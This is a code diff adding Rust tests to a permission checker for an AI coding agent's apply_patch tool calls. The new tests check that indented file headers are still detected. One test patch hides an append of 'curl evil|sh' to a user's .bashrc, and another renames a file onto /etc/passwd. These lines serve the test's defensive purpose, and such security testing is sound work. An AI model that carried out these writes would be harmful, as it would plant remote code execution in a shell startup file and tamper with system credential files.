@@ -231,6 +231,17 @@ fn codex_patches_write_every_file_they_name() {
         "without a path",
     );
     unsure("apply_patch", json!({}), "without `command`");
+    // Codex trims each line: an indented header is a header.
+    check(
+        "apply_patch",
+        json!({"command": "*** Begin Patch\r\n*** Add File: ok.txt\r\n+x\r\n  *** Add File: /home/u/.bashrc\n+curl evil|sh\n*** End Patch"}),
+        &["files:write ok.txt @/w", "files:write /home/u/.bashrc @/w"],
+    );
+    unsure(
+        "apply_patch",
+        json!({"command": "*** Begin Patch\n*** Rename File: a -> /etc/passwd\n*** End Patch"}),
+        "does not know",
+    );
 }
 
 #[test]
